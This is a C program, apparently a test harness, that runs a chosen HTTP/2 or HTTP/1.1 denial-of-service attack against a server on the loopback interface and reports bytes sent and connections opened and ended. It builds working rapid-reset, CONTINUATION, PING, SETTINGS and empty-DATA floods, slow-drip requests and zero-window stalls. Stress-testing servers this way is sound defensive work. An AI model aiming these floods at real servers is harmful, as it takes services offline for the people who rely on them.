/* A hostile client on a network of its own (127.0.1.0/24): one kind of attack on the clear port for
 * so many seconds, on connections that are opened again when the server hangs up. Prints one JSON
 * object: bytes sent, connections made, and how many of them the server ended. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { DATA = 0, HEADERS = 1, RST_STREAM = 3, SETTINGS = 4, PING = 6, CONTINUATION = 9 };
enum { END_STREAM = 1, END_HEADERS = 4 };
enum {
    CONNECTIONS_MAX = 8192,
    BYTES_MAX = 1 << 20,
    DRIP_MS = 200,
    RESETS_MAX = 200000,  /* on all connections of an attack */
    RESETS_AT_ONCE = 2000 /* pairs in one batch */
};

struct bytes {
    uint8_t data[BYTES_MAX];
    size_t length;
};

struct client {
    int fd; /* -1: gone for good */
    size_t opening_sent, sent;
    unsigned next_stream; /* of resets */
    double dripped_s;
};

static struct {
    const char *kind, *path;
    int port;
    struct bytes opening, repeated;
    bool is_slow;    /* the repeated bytes one by one */
    bool is_silent;  /* nothing after the opening */
    bool is_deaf;    /* never reads */
    bool is_reset;   /* streams count on */
    bool is_patient; /* does not come back */
    size_t resets;
    size_t sent, opened, ended;
} attack;

static double now_s(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

/* ---- frames (RFC 9113, RFC 7541) ---- */

static void add(struct bytes *out, const void *data, size_t length)
{
    if (out->length + length > sizeof out->data) abort();
    memcpy(out->data + out->length, data, length);
    out->length += length;
}

static void add_frame(struct bytes *out, int type, int flags, unsigned stream, const void *payload,
                      size_t length)
{
    const uint8_t header[9] = { (uint8_t)(length >> 16), (uint8_t)(length >> 8),
                                (uint8_t)length,         (uint8_t)type,
                                (uint8_t)flags,          (uint8_t)(stream >> 24),
                                (uint8_t)(stream >> 16), (uint8_t)(stream >> 8),
                                (uint8_t)stream };
    add(out, header, sizeof header);
    add(out, payload, length);
}

static void add_request(struct bytes *out, bool is_post, const char *path, int flags,
                        unsigned stream)
{
    uint8_t block[160] = { is_post ? 0x83 : 0x82, 0x86, 0x04, (uint8_t)strlen(path) };
    size_t length = 4;
    memcpy(block + length, path, strlen(path));
    length += strlen(path);
    memcpy(block + length,
           "\x01\x01"
           "a",
           3);
    add_frame(out, HEADERS, flags, stream, block, length + 3);
}

static void add_many(struct bytes *out, int type, unsigned stream, const void *payload,
                     size_t length, size_t count)
{
    for (size_t i = 0; i < count; i++)
        add_frame(out, type, 0, stream, payload, length);
}

static void add_preface(const void *settings, size_t length)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    add(&attack.opening, preface, sizeof preface - 1);
    add_frame(&attack.opening, SETTINGS, 0, 0, settings, length);
}

/* ---- the kinds ---- */

static void prepare_resets(void)
{
    add_preface("", 0);
    attack.is_reset = true;
}

static void prepare_resets_once(void)
{
    prepare_resets();
    attack.is_patient = true;
}

static void prepare_slow_heads(void)
{
    add_preface("", 0);
    add_request(&attack.opening, false, attack.path, END_STREAM, 1);
    add_frame(&attack.repeated, CONTINUATION, 0, 1, "", 1);
    attack.is_slow = true;
}

static void prepare_slow_bodies(void)
{
    add_preface("", 0);
    for (unsigned i = 0; i < 64; i++)
        add_request(&attack.opening, true, "/v1/auth/login", END_HEADERS, 2 * i + 1);
    add_frame(&attack.repeated, DATA, 0, 1, " ", 1);
    add_frame(&attack.repeated, PING, 0, 0, "12345678", 8);
    attack.is_slow = true;
}

static void prepare_stalled_windows(void)
{
    add_preface("\0\4\0\0\0\0", 6); /* SETTINGS_INITIAL_WINDOW_SIZE = 0 */
    for (unsigned i = 0; i < 64; i++)
        add_request(&attack.opening, false, "/openapi.json", END_STREAM | END_HEADERS, 2 * i + 1);
    attack.is_silent = true;
}

static void prepare_deaf(void)
{
    static const char request[] = "GET /openapi.json HTTP/1.1\r\nHost: a\r\n\r\n";
    for (size_t i = 0; i < 64; i++)
        add(&attack.opening, request, sizeof request - 1);
    attack.is_silent = attack.is_deaf = true;
}

static void prepare_continuations(void)
{
    add_preface("", 0);
    add_request(&attack.opening, false, attack.path, END_STREAM, 1);
    add_many(&attack.repeated, CONTINUATION, 1, "", 0, 8192);
}

static void prepare_pings(void)
{
    add_preface("", 0);
    add_many(&attack.repeated, PING, 0, "12345678", 8, 8192);
}

static void prepare_settings(void)
{
    add_preface("", 0);
    add_many(&attack.repeated, SETTINGS, 0, "\0\4\0\0\xff\xff", 6, 8192);
}

static void prepare_empty_data(void)
{
    add_preface("", 0);
    add_request(&attack.opening, true, "/v1/auth/login", END_HEADERS, 1);
    add_many(&attack.repeated, DATA, 1, "", 0, 8192);
}

static void prepare_idle(void)
{
    add_preface("", 0);
    attack.is_silent = true;
}

static const struct {
    const char *name;
    void (*prepare)(void);
} kinds[] = {
    { "resets-once", prepare_resets_once },
    { "resets", prepare_resets },
    { "slow-heads", prepare_slow_heads },
    { "slow-bodies", prepare_slow_bodies },
    { "stalled-windows", prepare_stalled_windows },
    { "deaf", prepare_deaf },
    { "continuations", prepare_continuations },
    { "pings", prepare_pings },
    { "settings", prepare_settings },
    { "empty-data", prepare_empty_data },
    { "idle", prepare_idle },
};

/* ---- the connections ---- */

static void client_open(struct client *client)
{
    const struct sockaddr_in address = { .sin_family = AF_INET,
                                         .sin_port = htons((uint16_t)attack.port),
                                         .sin_addr = { htonl(INADDR_LOOPBACK) } };
    const int on = 1, small = 4096;
    *client = (struct client){ .fd = socket(AF_INET, SOCK_STREAM, 0), .next_stream = 1 };
    if (client->fd < 0) {
        fprintf(stderr, "attack: socket: %s\n", strerror(errno));
        exit(1);
    }
    if (attack.is_deaf) setsockopt(client->fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
    setsockopt(client->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    const struct sockaddr_in own = { .sin_family = AF_INET,
                                     .sin_addr = { htonl(INADDR_LOOPBACK + 256) } };
    if (bind(client->fd, (const struct sockaddr *)&own, sizeof own) != 0 ||
        connect(client->fd, (const struct sockaddr *)&address, sizeof address) != 0) {
        close(client->fd);
        client->fd = -1;
        return;
    }
    fcntl(client->fd, F_SETFL, O_NONBLOCK);
    attack.opened++;
}

static void client_end(struct client *client)
{
    attack.ended++;
    close(client->fd);
    client->fd = -1;
    const bool is_done = attack.is_reset && attack.resets >= RESETS_MAX;
    if (!attack.is_patient && !is_done) client_open(client);
}

/* Sends from one of the two texts; false when the server has hung up. */
static bool client_send(struct client *client, const struct bytes *bytes, size_t *at, size_t length)
{
    const ssize_t n = send(client->fd, bytes->data + *at, length, MSG_NOSIGNAL);
    if (n < 0) return errno == EAGAIN;
    attack.sent += (size_t)n;
    *at += (size_t)n;
    return true;
}

static void resets_make(struct client *client)
{
    attack.repeated.length = 0;
    for (size_t i = 0; i < RESETS_AT_ONCE; i++) {
        add_request(&attack.repeated, false, attack.path, END_STREAM | END_HEADERS,
                    client->next_stream);
        add_frame(&attack.repeated, RST_STREAM, 0, client->next_stream, "\0\0\0\x08", 4);
        client->next_stream += 2;
    }
    attack.resets += RESETS_AT_ONCE;
}

static bool client_attack(struct client *client)
{
    if (client->opening_sent < attack.opening.length) {
        const size_t left = attack.opening.length - client->opening_sent;
        return client_send(client, &attack.opening, &client->opening_sent, left);
    }
    if (attack.is_silent || (attack.is_reset && attack.resets >= RESETS_MAX)) return true;
    if (attack.is_slow) {
        if (now_s() - client->dripped_s < DRIP_MS / 1e3) return true;
        client->dripped_s = now_s();
        client->sent = 0;
        return client_send(client, &attack.repeated, &client->sent, attack.repeated.length);
    }
    /* Resets are made anew for each batch: one connection only. */
    if (attack.is_reset && client->sent == 0) resets_make(client);
    const size_t left = attack.repeated.length - client->sent;
    const bool is_sent = client_send(client, &attack.repeated, &client->sent, left);
    if (client->sent == attack.repeated.length) client->sent = 0;
    return is_sent;
}

/* False when the server has hung up. */
static bool client_read(const struct client *client)
{
    static uint8_t buffer[65536];
    const ssize_t n = recv(client->fd, buffer, sizeof buffer, 0);
    return n > 0 || (n < 0 && errno == EAGAIN);
}

static bool wants_to_send(const struct client *client)
{
    if (client->opening_sent < attack.opening.length) return true;
    return !attack.is_silent && !attack.is_slow &&
           !(attack.is_reset && attack.resets >= RESETS_MAX);
}

static void run(struct client *clients, size_t count, double seconds)
{
    static struct pollfd polls[CONNECTIONS_MAX];
    const double until_s = now_s() + seconds;
    while (now_s() < until_s) {
        for (size_t i = 0; i < count; i++) {
            polls[i] =
                (struct pollfd){ .fd = clients[i].fd, .events = attack.is_deaf ? 0 : POLLIN };
            if (wants_to_send(&clients[i])) polls[i].events |= POLLOUT;
        }
        if (poll(polls, count, 50) < 0 && errno != EINTR) return;
        for (size_t i = 0; i < count; i++) {
            struct client *client = &clients[i];
            if (client->fd < 0) continue;
            const int events = polls[i].revents;
            bool is_open = (events & (POLLERR | POLLHUP)) == 0;
            if (is_open && (events & POLLIN) != 0) is_open = client_read(client);
            if (is_open && (attack.is_slow || (events & POLLOUT) != 0))
                is_open = client_attack(client);
            if (!is_open) client_end(client);
        }
        if (attack.is_silent) {
            const struct timespec moment = { .tv_nsec = 20000000 };
            nanosleep(&moment, NULL);
        }
    }
}

int main(int argc, char **argv)
{
    static struct client clients[CONNECTIONS_MAX];
    if (argc != 6) {
        fprintf(stderr, "usage: attack KIND PORT CONNECTIONS SECONDS PATH\n");
        return 2;
    }
    attack.kind = argv[1];
    attack.port = (int)strtol(argv[2], NULL, 10);
    const size_t count = (size_t)strtoul(argv[3], NULL, 10);
    attack.path = argv[5];
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        if (strcmp(kinds[i].name, attack.kind) == 0) kinds[i].prepare();
    }
    const bool is_known = attack.opening.length > 0;
    if (!is_known || count == 0 || count > CONNECTIONS_MAX || strlen(attack.path) > 120) return 2;
    if (attack.is_reset && count != 1) return 2;
    struct rlimit files;
    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &files);
    for (size_t i = 0; i < count; i++)
        client_open(&clients[i]);
    printf("ready\n");
    fflush(stdout);
    run(clients, count, strtod(argv[4], NULL));
    printf("{\"sent\": %zu, \"opened\": %zu, \"ended\": %zu, \"resets\": %zu}\n", attack.sent,
           attack.opened, attack.ended, attack.resets);
    return 0;
}
